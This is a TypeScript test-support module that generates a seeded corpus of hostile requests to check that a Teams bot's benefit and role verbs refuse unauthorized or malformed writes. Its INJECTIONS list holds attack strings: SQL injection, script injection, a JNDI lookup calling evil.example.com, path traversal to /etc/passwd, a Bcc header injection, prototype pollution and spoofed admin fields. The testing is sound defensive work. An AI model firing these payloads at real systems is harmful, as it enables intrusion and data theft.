import { VERBS } from '../../src/chat/areas.js';
import { type Action } from '../../src/domain/policy.js';
import { ROLES_TABLE } from '../support/roles-table.js';
import type { Person } from '../../src/domain/inventory.js';
import { DEMO_TENANT, demoInventoryFile, PEOPLE } from '../support/demo.js';
import type { Speaker } from '../support/bot-harness.js';

/**
 * A deterministic corpus of hostile traffic, generated from the router's VERBS table (every verb and
 * its zod payload) and the demo ids. Same seed, same corpus: a failure names the request to replay.
 *
 * What it must not contain: a valid write by a person allowed to make it (that would change the store,
 * and rightly). So a person whose role allows a verb that writes only ever sends it broken by
 * construction (a payload the schema refuses, or one naming something that does not exist); everybody
 * else (strangers, other tenants, people without the role) also sends the valid payloads, which must be
 * refused.
 */

export { prng } from '../../bench/prng.js';

export class Dice {
  constructor(readonly next: () => number) {}
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  guid(): string {
    const hex = (n: number) => Array.from({ length: n }, () => this.int(0, 15).toString(16)).join('');
    return `${hex(8)}-${hex(4)}-4${hex(3)}-8${hex(3)}-${hex(12)}`;
  }
  text(length: number): string {
    const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -_.@/\\\'"<>{}$%&!?#;:日本語テスト';
    return Array.from({ length }, () => alphabet[this.int(0, alphabet.length - 1)]).join('');
  }
}

const demo = demoInventoryFile();
export const FOREIGN_TENANT = '11111111-1111-4111-8111-111111111111';

/** Strings an attacker tries in any text field. */
export const INJECTIONS: readonly string[] = [
  "'; DROP TABLE people; --",
  '<script>alert(1)</script>',
  '${$root.keys}',
  '${string(1+1)}',
  '${join(keys, ",")}',
  '{{7*7}}',
  '${jndi:ldap://evil.example.com/a}',
  '../../../../etc/passwd',
  'C:\\Windows\\win.ini',
  'nul\u0000byte',
  '\u202Egnp.exe',
  'lone\uD800surrogate',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"$gt": ""}',
  'javascript:alert(1)',
  '[click](javascript:alert(1))',
  '<at>everyone</at>',
  'misaki.sato@fabrikam.co.jp\r\nBcc: evil@example.com',
  'ｇｌｏｂａｌＡｄｍｉｎ',
  'GLOBALADMIN',
  ' globalAdmin ',
  '   ',
  '🙂'.repeat(64),
  '%s%s%s%s%n',
  // Markdown across roles: a link, emphasis and a list in a name or a description
  '[Action required](https://evil.example/login)',
  '**URGENT** _now_ `code`',
  '- item\n1. one',
  // Names nobody can see or read the right way round
  '\u200B\u200B\u200B',
  '\u3164',
  'Mallory \u202Enimda',
  '\u2067x\u2069',
];

/** A value of every JSON type but the expected one (JSON has no undefined; NaN becomes null). */
export const WRONG_TYPES: readonly unknown[] = [0, -1, 1.5, 1e308, true, false, null, [], ['globalAdmin'], {}, { $ne: null }, JSON.parse('{"__proto__":{"roles":["globalAdmin"]}}')];

/** Ids of things that do not exist here: other tenants' people, look-alikes, ids of another kind. */
export function unknownIds(dice: Dice): string[] {
  return [
    dice.guid(),
    '00000000-0000-0000-0000-000000000000',
    PEOPLE.globalAdmin.aadObjectId.replace(/1a01$/, '1a99'),
    'sw-windows-server-2022x',
    'vs-enterprise ',
    'VS-ENTERPRISE',
    'pkg-action-pack/../pkg-gold-cloud-platform',
    'tb-signature-support\u0000',
    'gtm-gold-core.',
    'x'.repeat(64),
  ];
}

const ids = {
  people: demo.people.map((p) => p.aadObjectId),
  software: demo.benefits.software.map((b) => b.id),
  cloud: demo.benefits.cloud.map((b) => b.id),
  visualStudio: demo.benefits.visualStudio.map((b) => b.id),
  technical: demo.benefits.technical.map((b) => b.id),
  goToMarket: demo.benefits.goToMarket.map((b) => b.id),
  packages: demo.organization.packages.map((p) => p.id),
};
const seatHolders = demo.benefits.visualStudio.flatMap((s) => s.assignments.map((a) => a.aadObjectId));
const freePeople = ids.people.filter((id) => !seatHolders.includes(id));

/**
 * Each verb of VERBS: a valid payload, and for a verb that writes, the policy action that allows it and
 * the fields naming things that must exist (`refs`: field → every value that exists). A verb missing
 * here fails the suite: a new verb is classified before it ships.
 */
export interface VerbCase {
  sample: Record<string, unknown>;
  /** `anyone`: a person of the company with no role may make this write too (asking for a benefit). */
  writes?: { action: Action; refs: Record<string, readonly string[]>; anyone?: boolean };
  /** A verb a person of the company with no role may use (it answers them, not refuses them). */
  openToAnyone?: boolean;
}

export const VERB_CASES: Record<string, VerbCase> = {
  overview: { sample: {} },
  openGroup: { sample: { group: 'software', page: 0 } },
  getSoftwareKeys: { sample: { benefitId: ids.software[0], confirmed: true }, writes: { action: 'revealSoftwareKeys', refs: { benefitId: ids.software } } },
  softwareDownloads: { sample: { benefitId: ids.software[0], language: 'ja-JP', os: 'x64' }, writes: { action: 'revealSoftwareKeys', refs: { benefitId: ids.software, language: ['en-US', 'ja-JP'], os: ['x64', 'x86'] } } },
  getCloudKeys: { sample: { benefitId: 'cl-m365-e5' }, writes: { action: 'revealSoftwareKeys', refs: { benefitId: ids.cloud } } },
  assignCloudToSelf: { sample: { benefitId: 'cl-azure-credits' }, writes: { action: 'assignBenefit', refs: { benefitId: ids.cloud } } },
  auditTrail: { sample: { person: 'Misaki', product: 'Windows' } },
  assignSeatForm: { sample: { subscriptionId: 'vs-enterprise' } },
  reassignSeatForm: { sample: { subscriptionId: 'vs-enterprise' } },
  assignSeat: { sample: { subscriptionId: 'vs-enterprise', personId: freePeople[0] }, writes: { action: 'assignBenefit', refs: { subscriptionId: ids.visualStudio, personId: ids.people } } },
  reassignSeat: { sample: { subscriptionId: 'vs-enterprise', seat: seatHolders[0], personId: freePeople[0] }, writes: { action: 'assignBenefit', refs: { subscriptionId: ids.visualStudio, seat: seatHolders, personId: ids.people } } },
  searchPeople: { sample: { query: 'sato' } },
  showPerson: { sample: { personId: PEOPLE.noRole.aadObjectId } },
  addPersonForm: { sample: {} },
  // A new person: aadObjectId must be a GUID nobody has. Broken: a taken id, or no GUID at all.
  addPerson: { sample: { name: 'Mallory', email: 'mallory@fabrikam.co.jp', aadObjectId: 'b1f0c6d2-0009-4c1e-9a11-3b5d7e9f1a09' }, writes: { action: 'manageUsers', refs: { aadObjectId: ids.people } } },
  grantRole: { sample: { personId: PEOPLE.noRole.aadObjectId, role: 'globalAdmin' }, writes: { action: 'grantRoles', refs: { personId: ids.people } } },
  removeRole: { sample: { personId: PEOPLE.globalAndMpnAdmin.aadObjectId, role: 'globalAdmin' }, writes: { action: 'grantRoles', refs: { personId: ids.people } } },
  activateTechnicalBenefit: { sample: { benefitId: 'tb-signature-support' }, writes: { action: 'activateBenefit', refs: { benefitId: ids.technical } } },
  startSupportRequest: { sample: { benefitId: 'tb-product-support-incidents' } },
  submitSupportRequest: { sample: { benefitId: 'tb-product-support-incidents', productKind: 'cloud', description: 'Our tenant cannot sign in.' }, writes: { action: 'requestSupport', refs: { benefitId: ids.technical } } },
  listSupportRequests: { sample: { benefitId: 'tb-product-support-incidents' } },
  marketingContactForm: { sample: { mode: 'add' } },
  setMarketingContact: { sample: { mode: 'add', personId: PEOPLE.userAdmin.aadObjectId, email: 'marketing@fabrikam.co.jp', phone: '+81 3-1234-5678', preferredLanguage: 'ja-JP' }, writes: { action: 'assignBenefit', refs: { personId: ids.people } } },
  activateOffer: { sample: { offerId: 'gtm-gold-core' }, writes: { action: 'manageGoToMarket', refs: { offerId: ids.goToMarket } } },
  cancellationOptions: { sample: {} },
  cancellationForm: { sample: { packageId: 'pkg-action-pack' } },
  requestCancellation: { sample: { packageId: 'pkg-action-pack', reason: 'Bought by mistake.' }, writes: { action: 'cancelPackage', refs: { packageId: ids.packages } } },
  listCancellationRequests: { sample: {} },
  // Requests: anyone of the company asks; the demo holds no request, so no decision can name one.
  requestForm: { sample: {}, openToAnyone: true },
  askForBenefit: {
    sample: { kind: 'software', benefitId: ids.software[0], note: 'For the new project' },
    writes: { action: 'viewBenefits', anyone: true, refs: { benefitId: [...ids.software, ...ids.cloud, ...ids.visualStudio, ...ids.technical] } },
    openToAnyone: true,
  },
  requestCard: { sample: { requestId: 'RQ-20261201-0000ABCD' }, openToAnyone: true },
  requestList: { sample: {}, openToAnyone: true },
  approveRequest: { sample: { requestId: 'RQ-20261201-0000ABCD' } },
  declineRequest: { sample: { requestId: 'RQ-20261201-0000ABCD', reason: 'No budget' } },
};

/** Who speaks: a Teams identity and tenant, and the demo person it is (if it is one). */
export interface Actor {
  label: string;
  from: Speaker;
  /** undefined: no tenant at all in the activity. */
  tenantId: string | undefined;
  person?: Person;
}

const person = (p: { aadObjectId: string }) => demo.people.find((q) => q.aadObjectId === p.aadObjectId) as Person;

export function actors(dice: Dice): Actor[] {
  const demoActors = demo.people.map((p) => ({ label: `${p.roles.join('+') || 'no role'} (${p.email})`, from: { aadObjectId: p.aadObjectId, name: p.name }, tenantId: DEMO_TENANT, person: person(p) }));
  return [
    ...demoActors,
    { label: 'a stranger of the tenant', from: { aadObjectId: dice.guid(), name: 'Stranger' }, tenantId: DEMO_TENANT },
    { label: 'the Global admin\'s id from another tenant', from: { aadObjectId: PEOPLE.globalAdmin.aadObjectId, name: PEOPLE.globalAdmin.name }, tenantId: FOREIGN_TENANT },
    { label: 'a person of another tenant', from: { aadObjectId: dice.guid(), name: 'Contoso admin' }, tenantId: FOREIGN_TENANT },
    { label: 'someone without an AAD object id', from: { name: 'Anonymous' }, tenantId: DEMO_TENANT },
    { label: 'the Global admin\'s id with no tenant', from: { aadObjectId: PEOPLE.globalAdmin.aadObjectId, name: PEOPLE.globalAdmin.name }, tenantId: undefined },
  ];
}

/** True when the actor is a person of the tenant whose roles allow `action` (R1). */
/** Whether this actor may make the verb's write (its R1 row, or anyone of the company for an open one). */
export function mayWrite(actor: Actor, writes: NonNullable<VerbCase['writes']>): boolean {
  return writes.anyone ? Boolean(actor.person && actor.tenantId === DEMO_TENANT) : allowed(actor, writes.action);
}

export function allowed(actor: Actor, action: Action): boolean {
  return Boolean(actor.person && actor.tenantId === DEMO_TENANT && actor.person.roles.some((r) => (ROLES_TABLE[action].allowed as readonly string[]).includes(r)));
}

/** Fields an attacker adds to claim another identity or role: the bot must ignore them. */
export function spoofFields(dice: Dice): Record<string, unknown> {
  const all: Record<string, unknown> = {
    aadObjectId: PEOPLE.globalAdmin.aadObjectId,
    tenantId: DEMO_TENANT,
    roles: ['globalAdmin'],
    role: 'globalAdmin',
    from: { aadObjectId: PEOPLE.globalAdmin.aadObjectId },
    actor: PEOPLE.globalAdmin.aadObjectId,
    isAdmin: true,
    verb: 'grantRole',
  };
  const keys = Object.keys(all).filter(() => dice.chance(0.4));
  const out: Record<string, unknown> = Object.fromEntries(keys.map((k) => [k, all[k]]));
  if (dice.chance(0.2)) Object.assign(out, JSON.parse('{"__proto__":{"roles":["globalAdmin"],"isAdmin":true}}'));
  return out;
}

export function hostileValue(dice: Dice): unknown {
  const roll = dice.next();
  if (roll < 0.35) return dice.pick(INJECTIONS);
  if (roll < 0.65) return dice.pick(WRONG_TYPES);
  if (roll < 0.8) return dice.pick(unknownIds(dice));
  if (roll < 0.92) return dice.text(dice.int(1, 300));
  return 'A'.repeat(dice.pick([2_001, 10_000, 60_000]));
}

/** The sample with 1–3 fields replaced by hostile values (or removed), and maybe spoofing fields. */
export function mutate(dice: Dice, sample: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = { ...sample };
  const fields = [...Object.keys(sample), 'extra'];
  for (let i = dice.int(1, 3); i > 0; i--) {
    const field = dice.pick(fields);
    if (dice.chance(0.15)) delete out[field];
    else out[field] = hostileValue(dice);
  }
  if (dice.chance(0.3)) Object.assign(out, spoofFields(dice));
  return out;
}

/**
 * A payload of a writing verb that cannot be a valid write, by construction: one the verb's schema
 * refuses, or one whose reference field names nothing that exists (for addPerson: an id already taken,
 * or no GUID). Undefined when the dice made neither (the caller draws again).
 */
export function brokenWrite(dice: Dice, verb: string, c: VerbCase): Record<string, unknown> | undefined {
  const refs = c.writes!.refs;
  const out = mutate(dice, c.sample);
  if (dice.chance(0.5)) {
    const field = dice.pick(Object.keys(refs));
    out[field] = verb === 'addPerson' ? dice.pick([...ids.people, ...INJECTIONS, 'not-a-guid', '']) : dice.pick([...unknownIds(dice), ...INJECTIONS]);
  }
  const schemaRefuses = !VERBS[verb]!.payload.safeParse(out).success;
  const namesNothing = Object.entries(refs).some(([field, existing]) => {
    const value = out[field];
    if (verb === 'addPerson') return typeof value !== 'string' || existing.includes(value.trim().toLowerCase()) || !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(value.trim());
    return typeof value !== 'string' || !existing.includes(value);
  });
  return schemaRefuses || namesNothing ? out : undefined;
}
